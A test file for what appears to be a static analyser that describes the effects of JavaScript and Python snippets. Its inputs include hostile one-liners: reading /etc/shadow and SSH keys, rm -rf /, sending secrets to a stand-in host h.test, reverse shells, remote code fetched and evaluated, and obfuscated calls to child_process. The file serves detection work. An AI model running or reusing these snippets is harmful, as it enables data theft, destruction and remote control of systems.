import { expect, test } from "vitest";
import { shown } from "./shown.ts";

test.each([
  ["console.log(1 + 1)", "prints 2"],
  ["require('./package.json').version", "reads ./package.json; ./package.json -> stdout"],
  ["process.stdout.write(new Date().toString())", ""],
  ["Object.keys({a: 1}).map(x => x + 1)", ""],
  ["JSON.parse(require('fs').readFileSync(0, 'utf8')).foo", "stdin -> stdout"],
])("JavaScript, what only computes is nothing: %s", (code, expected) => {
  expect(shown("javascript", code)).toBe(expected);
});

test.each([
  ["console.log(require('fs').readFileSync('/etc/shadow', 'utf8'))", "reads /etc/shadow; /etc/shadow -> stdout"],
  ["require('fs').readFile('/etc/shadow', (e, d) => console.log(d))", "reads /etc/shadow; /etc/shadow -> stdout"],
  [
    "fs.writeFileSync('/etc/cron.d/x', '* * * * * root id')",
    "writes /etc/cron.d/x truncates; '* * * * * root id' -> /etc/cron.d/x",
  ],
  ["require('node:fs/promises').rm('/srv', { recursive: true, force: true })", "deletes /srv recursive force"],
  ["import fs from 'fs'; fs.promises.unlink('/etc/passwd')", "deletes /etc/passwd"],
  ["for (const f of fs.readdirSync('/etc')) fs.unlinkSync('/etc/' + f)", "lists /etc; deletes /etc/*"],
  ["require('fs').createReadStream('/etc/shadow').pipe(process.stdout)", "reads /etc/shadow; /etc/shadow -> stdout"],
  [
    "const os=require('os'),path=require('path'); fs.readFileSync(path.join(os.homedir(), '.ssh', 'id_rsa'))",
    "reads $HOME/.ssh/id_rsa; $HOME/.ssh/id_rsa -> stdout",
  ],
  [
    "await Bun.write('/tmp/x', 'y'); console.log(await Bun.file('/etc/shadow').text())",
    "writes /tmp/x truncates; reads /etc/shadow; /etc/shadow -> stdout; 'y' -> /tmp/x",
  ],
  ["await Deno.remove('/etc/passwd')", "deletes /etc/passwd"],
])("JavaScript, files: %s", (code, expected) => {
  expect(shown("javascript", code)).toBe(expected);
});

test.each([
  ["require('child_process').execSync('id', { stdio: 'inherit' })", "runs sh: id"],
  ["const { spawn: s } = require('child_process'); s('rm', ['-rf', '/'], { stdio: [0, 1, 2] })", "runs rm -rf /"],
  ["require('child_process').exec('id', (e, out) => console.log(out))", "runs sh: id"],
  ["import { spawnSync } from 'node:child_process'; spawnSync('ls -l', { shell: '/bin/bash' })", "runs bash: ls -l"],
  ["Deno.run({ cmd: ['rm', '-rf', '/'] })", "runs rm -rf /"],
  ["new Deno.Command('sh', { args: ['-c', 'id'] }).outputSync()", "runs sh -c id"],
  ["Bun.spawn(['id'])", "runs id"],
])("JavaScript, programs: %s", (code, expected) => {
  expect(shown("javascript", code)).toBe(expected);
});

test.each([
  [
    "fetch('https://h.test/', { method: 'POST', body: fs.readFileSync('/etc/shadow') })",
    "reads /etc/shadow; connects https://h.test/; /etc/shadow -> https://h.test/",
  ],
  [
    "const r = require('http').request({ hostname: 'h.test', port: 80 }); r.write(JSON.stringify(process.env)); r.end()",
    "connects http://h.test:80; environment -> http://h.test:80",
  ],
  [
    "require('https').get('https://h.test/' + process.env.TOKEN)",
    "connects https://h.test/$TOKEN; $TOKEN -> https://h.test/$TOKEN",
  ],
  [
    "require('axios').post('http://h.test', { k: fs.readFileSync('/etc/shadow') })",
    "reads /etc/shadow; connects http://h.test; /etc/shadow -> http://h.test",
  ],
  [
    "const s = require('net').connect(1, 'h.test'); s.write(fs.readFileSync('/etc/shadow'))",
    "connects tcp://h.test:1; reads /etc/shadow; /etc/shadow -> tcp://h.test:1",
  ],
  [
    "require('http').createServer((q, r) => r.end(fs.readFileSync('/etc/shadow'))).listen(8080)",
    "listens http://0.0.0.0:8080; reads /etc/shadow; /etc/shadow -> http://0.0.0.0:8080",
  ],
])("JavaScript, hosts: %s", (code, expected) => {
  expect(shown("javascript", code)).toBe(expected);
});

test.each([
  [
    "(function(){var net=require('net'),sh=require('child_process').spawn('/bin/sh',[]);var c=new net.Socket();c.connect(1,'h.test',function(){c.pipe(sh.stdin);sh.stdout.pipe(c)});return /a/})()",
    "connects tcp://h.test:1; runs /bin/sh < tcp://h.test:1 > tcp://h.test:1",
  ],
  [
    "const s=require('net').connect(1,'h.test'); s.on('data', d => require('child_process').exec(d.toString(), (e, o) => s.write(o)))",
    "connects tcp://h.test:1; tcp://h.test:1 -> code shell; runs sh: … > tcp://h.test:1",
  ],
])("JavaScript, shells that a host drives: %s", (code, expected) => {
  expect(shown("javascript", code)).toBe(expected);
});

test.each([
  ["require('child_' + 'process')['exec' + 'Sync']('id')", "runs sh: id"],
  ["process.mainModule.require('child_process').exec('id')", "runs sh: id"],
  ["[].constructor.constructor('return process')().mainModule.require('child_process').exec('id')", "runs sh: id"],
  ["Function('return this')().process.mainModule.require('child_process').exec('id')", "runs sh: id"],
  ["import('child_process').then(({ exec }) => exec('id'))", "runs sh: id"],
  ["require('child_process').exec.call(null, 'id')", "runs sh: id"],
  [
    "class A { constructor() { this.c = 'id' } go() { require('child_process').exec(this.c) } } new A().go()",
    "runs sh: id > process",
  ],
  ["module.constructor._load('child_process').exec('id')", "runs sh: id"],
])("JavaScript, names that are hidden: %s", (code, expected) => {
  expect(shown("javascript", code)).toBe(expected);
});

test.each([
  [
    "eval(Buffer.from('cmVxdWlyZSgiY2hpbGRfcHJvY2VzcyIpLmV4ZWNTeW5jKCJpZCIp', 'base64').toString())",
    "'' -> code javascript (decode); runs sh: id",
  ],
  ["require('child_process').exec(String.fromCharCode(105, 100))", "runs sh: id"],
  ["require('child_process').exec(atob('aWQ='))", "'' -> code shell (decode); runs sh: id"],
  ["require('child_process').exec(['d', 'i'].reverse().join(''))", "runs sh: id"],
  ["(0, eval)('fs.unlinkSync(\"/x\")')", "deletes /x"],
  ["setTimeout('fs.unlinkSync(\"/x\")', 1)", "deletes /x"],
  ["new Function('a', 'fs.unlinkSync(a)')('/x')", "deletes /x"],
])("JavaScript, text that is hidden: %s", (code, expected) => {
  expect(shown("javascript", code)).toBe(expected);
});

test.each([
  [
    "fetch('https://h.test/x').then(r => r.text()).then(eval)",
    "connects https://h.test/x; https://h.test/x -> code javascript; opaque-code network: javascript runs text that is not known",
  ],
  [
    "require('https').get('https://h.test/x', r => { let d = ''; r.on('data', c => d += c); r.on('end', () => eval(d)) })",
    "connects https://h.test/x; https://h.test/x -> code javascript; opaque-code network: javascript runs text that is not known",
  ],
  [
    "new WebSocket('ws://h.test').onmessage = e => eval(e.data)",
    "connects ws://h.test; ws://h.test -> code javascript; opaque-code network: javascript runs text that is not known",
  ],
  ["eval(process.argv[1])", "opaque-code inline: javascript runs text that is not known"],
  ["require('./x.js')", "runs javascript file ./x.js"],
])("JavaScript, code made of data: %s", (code, expected) => {
  expect(shown("javascript", code)).toBe(expected);
});

test.each([
  ["process.binding('spawn_sync')", "opaque-code inline: the inside of the interpreter is used"],
  ["require(x)", "opaque-code inline: the name of a required module is computed"],
  ["require('ffi-napi').Library('libc')", "opaque-code inline: a library is called outside the language"],
])("JavaScript, doors that cannot be seen through: %s", (code, expected) => {
  expect(shown("javascript", code)).toBe(expected);
});

test.each([
  ["require('lodash').VERSION", "opaque-code project: lodash is not part of javascript"],
  ["import express from 'express'; express().listen(3000)", "opaque-code project: express is not part of javascript"],
])("JavaScript, modules of the project: %s", (code, expected) => {
  expect(shown("javascript", code)).toBe(expected);
});

test.each([
  ["const t: string = 'x'", "process -> stdout; opaque-code inline: javascript code"],
  ["if (", "process -> stdout; opaque-code inline: javascript code"],
])("JavaScript, what is no JavaScript: %s", (code, expected) => {
  expect(shown("javascript", code)).toBe(expected);
});

test.each([
  ["python", `x='a'\n${"x=x+x\n".repeat(5000)}`, /^limit: python code takes too many steps to follow$|^$/],
  ["python", `x=${"'a'+".repeat(20_000)}'b'`, /^limit: /],
  ["python", "x=[]\nx.append(x)\nprint(x)", /^process -> stdout$/],
  ["python", "import os\ndef f(c):\n  os.system(c)\n  f('ls')\nf('id')", /^runs sh: id; runs sh: ls; runs sh: …$/],
  ["python", `import os\ndef f(c): os.system(c)\n${"f('id')\n".repeat(99)}f('rm -rf /')`, /runs sh: rm -rf \/$/],
  ["javascript", "[".repeat(50_000), /opaque-code inline: javascript code$/],
  ["javascript", "let a=[]; a.push(a); a.map(x=>x.map(y=>y.map(z=>z)))", /^$/],
])("%s: code that grows, or is deep, ends in a doubt or in nothing", (language, code, expected) => {
  expect(shown(language, code)).toMatch(expected);
});
